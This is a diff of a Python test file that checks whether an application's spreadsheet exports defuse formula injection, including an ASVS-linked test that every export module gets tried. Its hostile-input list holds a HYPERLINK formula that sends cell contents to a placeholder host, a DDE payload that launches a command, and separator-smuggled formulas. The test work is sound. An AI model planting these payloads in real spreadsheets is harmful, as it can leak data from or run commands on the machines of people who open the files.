@@ -7,7 +7,6 @@ import io
 import re
 import zipfile
 from collections.abc import Callable, Iterator
-from dataclasses import fields
 from datetime import date
 from typing import Any
 
@@ -17,6 +16,8 @@ import pytest
 from models.calendar.lists import write_list
 from models.staff import workbook as accounts
 from models.usulan.workbook import FamilyRow, MemberRow, RowError, write_rows, write_template
+from models.usulan.workbook_columns import columns
+from models.usulan.workbook_identity import FAMILY_SHEET, MEMBER_SHEET
 from models.usulan.workbook_values import FORMULA_STARTS, guarded, text_of
 from tests.unit.house import source
 
@@ -24,18 +25,16 @@ HOSTILE = [f'{start}HYPERLINK("http://x.example/"&A1,"klik")' for start in sorte
 HOSTILE += ["=1+1", "+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", '","=1+1', "a\r\n=1+1", "a;=1+1", "\t=1+1", " =1+1"]
 
 
-def _hostile(row: Any, text: str) -> Any:
-    """Return a row whose every text is hostile."""
-    for field in fields(row):
-        if isinstance(getattr(row, field.name), str):
-            setattr(row, field.name, text)
-    return row
-
-
 def _family(text: str) -> FamilyRow:
-    family: FamilyRow = _hostile(FamilyRow(members=[_hostile(MemberRow(), text)]), text)
-    family.raw = {"rt": text, "kode_desa": text}
-    family.members[0].raw = {"tanggal_lahir": text}
+    """Return a family whose every cell is hostile: texts as values, everything else as it was found in the file."""
+    family, member = FamilyRow(), MemberRow()
+    for row, sheet in ((family, FAMILY_SHEET), (member, MEMBER_SHEET)):
+        for column in columns(sheet):
+            if column.kind == "text" and not column.variable:
+                setattr(row, column.name, text)
+            else:
+                row.raw[column.name] = text
+    family.members = [member]
     family.errors.append(RowError("keluarga", family.row, "alamat", text, "X", "error", text, text, text, text))
     return family
 
@@ -129,7 +128,9 @@ def test_asvs_1_2_10_every_module_that_writes_spreadsheets_is_tried() -> None:
     writing = {
         path
         for path in source.python(*source.PRODUCT)
-        if any(name.split(".")[0] in {"xlsxwriter", "openpyxl", "pandas"} for _, name in source.imported(source.tree(path)))
+        if any(
+            name.split(".")[0] in {"xlsxwriter", "openpyxl", "pandas"} for _, name in source.imported(source.tree(path))
+        )
         or re.search(r"csv\.(writer|DictWriter)", source.text(path))
     }
     assert writing == set(WRITERS), "a new export goes into EXPORTS, its module into WRITERS"
